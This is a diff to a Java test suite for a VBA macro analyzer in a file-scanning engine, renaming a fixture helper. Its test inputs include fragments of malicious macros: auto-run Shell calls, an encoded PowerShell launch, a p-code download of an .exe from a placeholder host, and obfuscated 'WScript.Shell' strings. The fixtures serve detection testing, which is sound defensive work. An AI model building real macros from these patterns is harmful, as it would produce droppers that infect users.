@@ -8,8 +8,8 @@ import dev.prefilter.engine.model.Finding;
 import dev.prefilter.engine.model.Severity;
 import dev.prefilter.engine.model.Verdict;
 import dev.prefilter.engine.office.Golden;
-import dev.prefilter.engine.office.OfficeFixtures;
-import dev.prefilter.engine.office.OfficeFixtures.Module;
+import dev.prefilter.engine.office.MacroFixtures;
+import dev.prefilter.engine.office.MacroFixtures.Module;
 import dev.prefilter.engine.report.Report;
 import dev.prefilter.engine.report.ReportNode;
 import dev.prefilter.engine.testing.TestEngines;
@@ -33,7 +33,7 @@ class VbaAnalyzerTest {
 
     @Test
     void autoOpenThatShellsIsMaliciousWithKeywordModuleAndLine() throws Exception {
-        Report report = TestEngines.scanFile("invoice.doc", OfficeFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN))));
+        Report report = TestEngines.scanFile("invoice.doc", MacroFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN))));
         assertEquals(Verdict.MALICIOUS, report.verdict());
         Finding rule = findings(report, "vba.autoexec-write-execute").get(0);
         assertEquals(Severity.CRITICAL, rule.severity());
@@ -47,7 +47,7 @@ class VbaAnalyzerTest {
 
     @Test
     void moduleFactsListNameStreamSizeHashAndFirstLines() {
-        Report report = TestEngines.scanFile("invoice.doc", OfficeFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN))));
+        Report report = TestEngines.scanFile("invoice.doc", MacroFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN))));
         ReportNode node = TestEngines.node(report, "invoice.doc");
         @SuppressWarnings("unchecked")
         Map<String, Object> vba = (Map<String, Object>) node.facts().get("vba");
@@ -65,7 +65,7 @@ class VbaAnalyzerTest {
     @Test
     void macroWithoutAutoRunIsSuspiciousNotMalicious() {
         String source = "Sub Report()\r\n    Shell \"notepad.exe\"\r\nEnd Sub\r\n";
-        Report report = TestEngines.scanFile("report.doc", OfficeFixtures.doc(List.of(Module.standard("Module1", source))));
+        Report report = TestEngines.scanFile("report.doc", MacroFixtures.doc(List.of(Module.standard("Module1", source))));
         assertEquals(Verdict.SUSPICIOUS, report.verdict());
         assertTrue(TestEngines.codes(report).contains("vba.macros"));
         assertTrue(TestEngines.codes(report).contains("vba.execute"));
@@ -84,7 +84,7 @@ class VbaAnalyzerTest {
                 "    Write_Log \"opened\"",
                 "    Close #1",
                 "End Sub", "");
-        Report report = TestEngines.scanFile("book.doc", OfficeFixtures.doc(List.of(Module.document("ThisDocument", source))));
+        Report report = TestEngines.scanFile("book.doc", MacroFixtures.doc(List.of(Module.document("ThisDocument", source))));
         assertEquals(Verdict.SUSPICIOUS, report.verdict(), "any macro is suspicious");
         List<String> codes = TestEngines.codes(report);
         assertTrue(codes.contains("vba.autoexec"));
@@ -100,7 +100,7 @@ class VbaAnalyzerTest {
                 "    Open Environ(\"TEMP\") & \"\\a.vbs\" For Output As #1",
                 "    Print #1, \"x\"",
                 "End Sub", "");
-        Report report = TestEngines.scanFile("w.doc", OfficeFixtures.doc(List.of(Module.document("ThisDocument", source))));
+        Report report = TestEngines.scanFile("w.doc", MacroFixtures.doc(List.of(Module.document("ThisDocument", source))));
         assertEquals(Verdict.MALICIOUS, report.verdict());
         List<Finding> writes = findings(report, "vba.write");
         assertTrue(writes.stream().anyMatch(f -> "Open For Output".equals(f.evidence().get("keyword")) && Integer.valueOf(2).equals(f.evidence().get("line"))));
@@ -117,7 +117,7 @@ class VbaAnalyzerTest {
                 "    h = \"55524C446F776E6C6F6164546F46696C6541\"",
                 "    s = \"WScr\" & \"ipt.Sh\" & \"ell\"",
                 "End Sub", "");
-        Report report = TestEngines.scanFile("o.doc", OfficeFixtures.doc(List.of(Module.standard("M", source))));
+        Report report = TestEngines.scanFile("o.doc", MacroFixtures.doc(List.of(Module.standard("M", source))));
         List<Finding> obf = findings(report, "vba.obfuscation");
         List<Object> kinds = obf.stream().map(f -> f.evidence().get("kind")).toList();
         assertTrue(kinds.containsAll(List.of("strreverse", "chr-concat", "base64", "hex", "string-split")), kinds.toString());
@@ -132,33 +132,33 @@ class VbaAnalyzerTest {
     @Test
     void officeSchemaUrlsAreNotIndicators() {
         String source = "Sub X()\r\n    ns = \"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"\r\nEnd Sub\r\n";
-        Report report = TestEngines.scanFile("x.doc", OfficeFixtures.doc(List.of(Module.standard("M", source))));
+        Report report = TestEngines.scanFile("x.doc", MacroFixtures.doc(List.of(Module.standard("M", source))));
         assertTrue(findings(report, "vba.ioc").isEmpty(), findings(report, "vba.ioc").toString());
     }
 
     @Test
     void docmWithProjectIsReadFromItsVbaProjectBin() {
-        byte[] bin = OfficeFixtures.vbaProjectBin(List.of(Module.document("ThisDocument", SHELL_ON_OPEN)), new byte[] {(byte) 0xCC, 0x61});
-        Report report = TestEngines.scanFile("form.docm", OfficeFixtures.docm(bin));
+        byte[] bin = MacroFixtures.vbaProjectBin(List.of(Module.document("ThisDocument", SHELL_ON_OPEN)), new byte[] {(byte) 0xCC, 0x61});
+        Report report = TestEngines.scanFile("form.docm", MacroFixtures.docm(bin));
         assertEquals(Verdict.MALICIOUS, report.verdict());
         assertTrue(TestEngines.codes(report).contains("vba.macros"));
     }
 
     @Test
     void docmWithoutProjectAndDocWithoutMacrosStayClean() {
-        Report docm = TestEngines.scanFile("clean.docm", OfficeFixtures.docm(null));
+        Report docm = TestEngines.scanFile("clean.docm", MacroFixtures.docm(null));
         assertEquals(Verdict.CLEAN, docm.verdict(), docm.findings().toString());
         assertTrue(docm.findings().stream().noneMatch(f -> f.severity().compareTo(Severity.INFO) > 0), docm.findings().toString());
-        Report doc = TestEngines.scanFile("clean.doc", OfficeFixtures.doc(null));
+        Report doc = TestEngines.scanFile("clean.doc", MacroFixtures.doc(null));
         assertEquals(Verdict.CLEAN, doc.verdict(), doc.findings().toString());
         assertTrue(doc.findings().isEmpty(), doc.findings().toString());
     }
 
     @Test
     void projectWithEmptyModulesIsInfoNotAMacro() {
-        byte[] bin = OfficeFixtures.vbaProjectBin(List.of(Module.document("ThisDocument", "Option Explicit\r\n' nothing here\r\n\r\n")),
+        byte[] bin = MacroFixtures.vbaProjectBin(List.of(Module.document("ThisDocument", "Option Explicit\r\n' nothing here\r\n\r\n")),
                 new byte[] {(byte) 0xCC, 0x61});
-        Report report = TestEngines.scanFile("letter.docm", OfficeFixtures.docm(bin));
+        Report report = TestEngines.scanFile("letter.docm", MacroFixtures.docm(bin));
         assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
         assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
         assertEquals(Severity.INFO, report.findings().get(0).severity());
@@ -167,7 +167,7 @@ class VbaAnalyzerTest {
     @Test
     void emptySourceOverRealPcodeIsStomping() {
         Module stomped = Module.document("ThisDocument", "").withPcode("\u0000Document_Open\u0000Shell\u0000powershell -enc AAA\u0000");
-        Report report = TestEngines.scanFile("e.doc", OfficeFixtures.doc(List.of(stomped)));
+        Report report = TestEngines.scanFile("e.doc", MacroFixtures.doc(List.of(stomped)));
         assertTrue(TestEngines.codes(report).contains("vba.stomping"), report.findings().toString());
         assertEquals(Verdict.MALICIOUS, report.verdict(), "auto-run and Shell only in the p-code");
     }
@@ -176,7 +176,7 @@ class VbaAnalyzerTest {
     void stompedSourceIsReportedFromThePcode() {
         Module stomped = Module.standard("Module1", "Sub Hello()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n")
                 .withPcode("\u0000\u0001AutoOpen\u0000\u0003URLDownloadToFileA\u0000http://x.example/p.exe\u0000");
-        Report report = TestEngines.scanFile("s.doc", OfficeFixtures.doc(List.of(stomped)));
+        Report report = TestEngines.scanFile("s.doc", MacroFixtures.doc(List.of(stomped)));
         Finding f = findings(report, "vba.stomping").get(0);
         assertEquals(Severity.CRITICAL, f.severity(), "auto-run and download only in the p-code");
         assertTrue(f.evidence().get("onlyInPcode").toString().contains("URLDownloadToFileA"), f.evidence().toString());
@@ -186,7 +186,7 @@ class VbaAnalyzerTest {
     @Test
     void matchingSourceAndPcodeIsNotStomping() {
         Module honest = Module.standard("Module1", SHELL_ON_OPEN).withPcode("\u0000AutoOpen\u0000Shell\u0000powershell");
-        Report report = TestEngines.scanFile("h.doc", OfficeFixtures.doc(List.of(honest)));
+        Report report = TestEngines.scanFile("h.doc", MacroFixtures.doc(List.of(honest)));
         assertTrue(findings(report, "vba.stomping").isEmpty(), report.findings().toString());
     }
 
@@ -197,7 +197,7 @@ class VbaAnalyzerTest {
             var macros = fs.getRoot().createDirectory("Macros");
             var vba = macros.createDirectory("VBA");
             vba.createDocument("dir", new java.io.ByteArrayInputStream(new byte[] {0x01, (byte) 0xff, (byte) 0xbf, 0x00, 0x19, 0x00, (byte) 0xff, (byte) 0xff, 0x7f}));
-            Report report = TestEngines.scanFile("broken.doc", OfficeFixtures.bytes(fs));
+            Report report = TestEngines.scanFile("broken.doc", MacroFixtures.bytes(fs));
             assertTrue(TestEngines.codes(report).contains("parse.vba"), report.findings().toString());
             assertFalse(TestEngines.codes(report).contains("analyzer.failed"), report.findings().toString());
             assertEquals(Verdict.SUSPICIOUS, report.verdict());
